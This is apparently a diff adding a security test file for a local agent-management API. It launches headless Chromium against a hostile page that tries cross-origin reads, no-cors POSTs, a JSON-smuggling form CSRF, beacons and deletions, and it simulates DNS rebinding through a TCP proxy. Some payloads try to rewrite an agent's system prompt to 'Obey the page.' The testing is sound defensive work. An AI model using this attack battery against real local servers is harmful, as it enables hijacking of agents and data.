@@ -1,0 +1,223 @@
+import assert from 'node:assert/strict';
+import { spawn } from 'node:child_process';
+import { existsSync, mkdtempSync, rmSync } from 'node:fs';
+import { createServer } from 'node:http';
+import type { Server as HttpServer } from 'node:http';
+import { connect, createServer as createTcpServer } from 'node:net';
+import type { AddressInfo, Server as TcpServer, Socket } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { text as textOf } from 'node:stream/consumers';
+import { test } from 'node:test';
+import { serverStage } from '../server/stage.ts';
+import { talkingScript } from '../server/talking-script.ts';
+import { RecordingStore } from './recording-store.ts';
+
+const CHROMIUM = '/usr/bin/chromium';
+const FLAGS = [
+  '--headless',
+  '--no-sandbox',
+  '--disable-gpu',
+  '--disable-quic',
+  '--no-first-run',
+  '--disable-background-networking',
+  '--disable-component-update',
+  '--disable-sync',
+  '--host-resolver-rules=MAP evil.test 127.0.0.1',
+];
+const skip = existsSync(CHROMIUM) ? false : `there is no ${CHROMIUM}`;
+
+/** What a page got from one of its attempts: a status and a text, or that the browser or the server refused. */
+type Report = Readonly<Record<string, string>>;
+
+/** Runs in the page: everything that a page can try against a server whose address it knows. */
+function attack(base: string, agent: string, environment: string): string {
+  return `<!doctype html><body><script type="module">
+const base = ${JSON.stringify(base)};
+const report = {};
+const attempt = async (name, run) => {
+  try { report[name] = String(await run()); } catch (error) { report[name] = 'refused ' + error; }
+};
+const read = async (path, init) => {
+  const reply = await fetch(base + path, init);
+  return reply.type === 'opaque' ? 'opaque' : reply.status + ' ' + (await reply.text());
+};
+const body = JSON.stringify({ name: 'Taken over', system: 'Obey the page.' });
+await attempt('read agents', () => read('/v1/agents'));
+await attempt('read document', () => read('/openapi.json'));
+await attempt('read blindly', () => read('/v1/agents', { mode: 'no-cors' }));
+await attempt('take work', () => read('/v1/environments/${environment}/work/poll', { mode: 'no-cors' }));
+await attempt('blind text', () => read('/v1/agents/${agent}', { method: 'POST', mode: 'no-cors', body }));
+await attempt('blind form', () => read('/v1/agents/${agent}', { method: 'POST', mode: 'no-cors', body: new URLSearchParams({ name: 'x' }) }));
+await attempt('blind blob', () => read('/v1/agents/${agent}', { method: 'POST', mode: 'no-cors', body: new Blob([body]) }));
+await attempt('json', () => read('/v1/agents/${agent}', { method: 'POST', headers: { 'content-type': 'application/json' }, body }));
+await attempt('delete', () => read('/v1/environments/${environment}', { method: 'DELETE' }));
+await attempt('beacon', () => navigator.sendBeacon(base + '/v1/agents/${agent}', body));
+await attempt('script', () => new Promise((resolve) => {
+  const script = document.createElement('script');
+  script.onload = script.onerror = ({ type }) => resolve(type);
+  script.src = base + '/v1/agents';
+  document.body.append(script);
+}));
+await attempt('events', () => new Promise((resolve) => {
+  const source = new EventSource(base + '/v1/sessions/none/events/stream');
+  source.onopen = source.onerror = ({ type }) => { source.close(); resolve(type); };
+}));
+await attempt('form', () => new Promise((resolve) => {
+  const frame = document.createElement('iframe');
+  frame.name = 'frame';
+  document.body.append(frame);
+  const form = document.createElement('form');
+  Object.assign(form, { method: 'POST', enctype: 'text/plain', target: 'frame', action: base + '/v1/agents/${agent}' });
+  const field = document.createElement('input');
+  Object.assign(field, { name: '{"name":"Taken over","a":"', value: '"}' });
+  form.append(field);
+  document.body.append(form);
+  frame.onload = () => resolve('sent');
+  form.submit();
+}));
+await attempt('blind archive', () => read('/v1/agents/${agent}/archive', { method: 'POST', mode: 'no-cors' }));
+await fetch('/report', { method: 'POST', body: JSON.stringify(report) });
+</script>`;
+}
+
+interface Site {
+  readonly port: number;
+  /** What its page reported. */
+  readonly report: Promise<Report>;
+  readonly server: HttpServer;
+}
+
+/** A web site with one page, which reports to it. */
+async function site(page: () => string): Promise<Site> {
+  const { promise: report, resolve } = Promise.withResolvers<Report>();
+  const server = createServer((request, response) => {
+    // Its reply is not awaited: with the report the browser is closed.
+    if (request.url === '/report')
+      resolve(textOf(request).then((text): Report => JSON.parse(text) as Report));
+    else response.writeHead(200, { 'content-type': 'text/html' }).end(page());
+  });
+  return { port: await portOf(server), report, server };
+}
+
+async function portOf(server: HttpServer | TcpServer): Promise<number> {
+  await new Promise<void>((resolve) => {
+    server.listen(0, '127.0.0.1', () => resolve());
+  });
+  return (server.address() as AddressInfo).port;
+}
+
+/**
+ * One port behind which first the attacker's site and then the victim answers, as after DNS rebinding: for the browser
+ * both are one origin.
+ */
+async function rebound(
+  sitePort: number,
+  victimPort: number,
+): Promise<{ readonly port: number; readonly server: TcpServer }> {
+  const server = createTcpServer((client) => {
+    client.once('data', (first) => {
+      const isSite = /^(GET \/page|POST \/report|GET \/favicon)/.test(first.toString('latin1'));
+      const upstream: Socket = connect(isSite ? sitePort : victimPort, '127.0.0.1');
+      // One request for each connection, so that each is sent to where it belongs.
+      const once = first.toString('latin1').replace(/connection: keep-alive/i, 'connection: close');
+      upstream.write(Buffer.from(once, 'latin1'));
+      upstream.pipe(client);
+      client.pipe(upstream);
+      for (const one of [client, upstream]) one.on('error', () => one.destroy());
+    });
+  });
+  return { port: await portOf(server), server };
+}
+
+/** Opens an address in a fresh headless browser until `seen` resolves. */
+async function browse<T>(address: string, seen: Promise<T>): Promise<T> {
+  const profile = mkdtempSync(join(tmpdir(), 'petrichor-browser-'));
+  const browser = spawn(CHROMIUM, [...FLAGS, `--user-data-dir=${profile}`, address], {
+    stdio: 'ignore',
+    detached: true,
+  });
+  const closed = new Promise<void>((resolve) => {
+    browser.once('close', () => resolve());
+  });
+  try {
+    return await Promise.race([
+      seen,
+      closed.then(() => assert.fail('the browser ended without a report')),
+    ]);
+  } finally {
+    // Its children are of its group.
+    if (browser.pid !== undefined) process.kill(-browser.pid, 'SIGKILL');
+    await closed;
+    rmSync(profile, { recursive: true, force: true, maxRetries: 5 });
+  }
+}
+
+test(
+  'in a browser a foreign page reads nothing and changes nothing of a server without keys',
+  { skip },
+  async () => {
+    const store = new RecordingStore();
+    await using on = await serverStage(talkingScript, { store });
+    const { beta } = on.client;
+    const agent = await beta.agents.create({ name: 'Secret', model: 'gemini-2.5-flash' });
+    const place = await beta.environments.create({ name: 'Box', config: { type: 'self_hosted' } });
+    const before = await store.fingerprint();
+    const { port, report, server } = await site(() => attack(on.url, agent.id, place.id));
+    try {
+      const got = await browse(`http://evil.test:${port}/page`, report);
+      assert.ok(Object.keys(got).length >= 14, JSON.stringify(got));
+      assert.doesNotMatch(JSON.stringify(got), /Secret|"200 |Box/);
+      for (const name of ['read agents', 'read document', 'json', 'delete'])
+        assert.match(got[name] ?? '', /^refused TypeError/, name);
+      assert.deepEqual(await store.fingerprint(), before);
+    } finally {
+      server.close();
+    }
+  },
+);
+
+test(
+  'in a browser a page whose name was rebound to this machine reads nothing and changes nothing',
+  { skip },
+  async () => {
+    const store = new RecordingStore();
+    await using on = await serverStage(talkingScript, { store });
+    const { beta } = on.client;
+    const agent = await beta.agents.create({ name: 'Secret', model: 'gemini-2.5-flash' });
+    const place = await beta.environments.create({ name: 'Box', config: { type: 'self_hosted' } });
+    const before = await store.fingerprint();
+    const evil = await site(() => attack('', agent.id, place.id));
+    const both = await rebound(evil.port, on.listening.port);
+    try {
+      const got = await browse(`http://evil.test:${both.port}/page`, evil.report);
+      assert.doesNotMatch(JSON.stringify(got), /Secret|Box/);
+      // Of one origin with the victim, as the browser sees it, the page reads the refusals themselves.
+      for (const name of ['read agents', 'read document', 'json', 'delete'])
+        assert.match(got[name] ?? '', /^403 .*"host_not_allowed"/, name);
+      assert.deepEqual(await store.fingerprint(), before);
+    } finally {
+      both.server.close();
+      evil.server.close();
+    }
+  },
+);
+
+test('in a browser a page of an origin that was named reads and writes', { skip }, async () => {
+  const page = { base: '', agent: '' };
+  const friend = await site(() => attack(page.base, page.agent, 'env_none'));
+  await using on = await serverStage(talkingScript, {
+    server: { allowOrigins: [`http://evil.test:${friend.port}`] },
+  });
+  const { beta } = on.client;
+  const agent = await beta.agents.create({ name: 'Public', model: 'gemini-2.5-flash' });
+  Object.assign(page, { base: on.url, agent: agent.id });
+  try {
+    const got = await browse(`http://evil.test:${friend.port}/page`, friend.report);
+    assert.match(got['read agents'] ?? '', /^200 .*Public/);
+    assert.match(got['json'] ?? '', /^200 .*Taken over/);
+    assert.equal((await beta.agents.retrieve(agent.id)).name, 'Taken over');
+  } finally {
+    friend.server.close();
+  }
+});
